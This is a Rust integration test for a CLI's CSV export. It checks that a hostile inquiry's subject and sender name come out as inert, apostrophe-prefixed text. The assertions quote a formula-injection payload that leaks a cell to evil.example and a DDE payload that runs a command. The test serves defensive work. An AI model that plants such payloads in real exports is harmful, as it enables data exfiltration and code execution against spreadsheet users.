//! `leadmail export --csv`: the real binary on a hostile inquiry; the CSV a
//! spreadsheet opens must not hold a live formula.

use crate::support;

use support::{offline_app, repo, App};

/// An app with public inquiries on, so an unknown sender becomes a lead.
fn public_app() -> App {
    let app = offline_app();
    app.set_config("crm.public_inquiries", true);
    app
}

fn ingest(app: &App, file: &str) {
    let eml = repo().join("tests/fixtures/export").join(file);
    let out = app.run(&["ingest", eml.to_str().unwrap(), "--json"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{stdout}");
    assert!(stdout.contains("created_lead"), "{stdout}");
}

/// Splits RFC 4180 text into records of cells (quotes undone).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            (_, '"') => quoted = !quoted,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            _ => cell.push(c),
        }
    }
    rows
}

fn column<'a>(rows: &'a [Vec<String>], name: &str) -> &'a str {
    let index = rows[0].iter().position(|c| c == name).expect(name);
    &rows[1][index]
}

#[test]
fn a_hostile_subject_and_name_are_exported_as_inert_text() {
    let app = public_app();
    ingest(&app, "hostile-inquiry.eml");
    let out = app.run(&["export", "--csv"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8(out.stdout).unwrap();
    let rows = parse_csv(&text);
    assert_eq!(rows.len(), 2, "{text}");
    assert_eq!(
        column(&rows, "title"),
        r#"'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")"#
    );
    assert_eq!(column(&rows, "contact_name"), "'=cmd|' /C calc'!A0");
    assert_eq!(column(&rows, "contact_email"), "mallory@hostile.example");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "live formula: {cell}"
            );
        }
    }
}

#[test]
fn export_to_a_file_writes_the_same_csv() {
    let app = public_app();
    ingest(&app, "hostile-inquiry.eml");
    let path = app.dir.path().join("leads.csv");
    let out = app.run(&["export", "--csv", "--output", path.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = app.run(&["export", "--csv"]).stdout;
    assert_eq!(std::fs::read(&path).unwrap(), stdout);
    let kind = app.run(&["export", "--csv", "--kind", "robot"]);
    assert_eq!(kind.status.code(), Some(2));
}
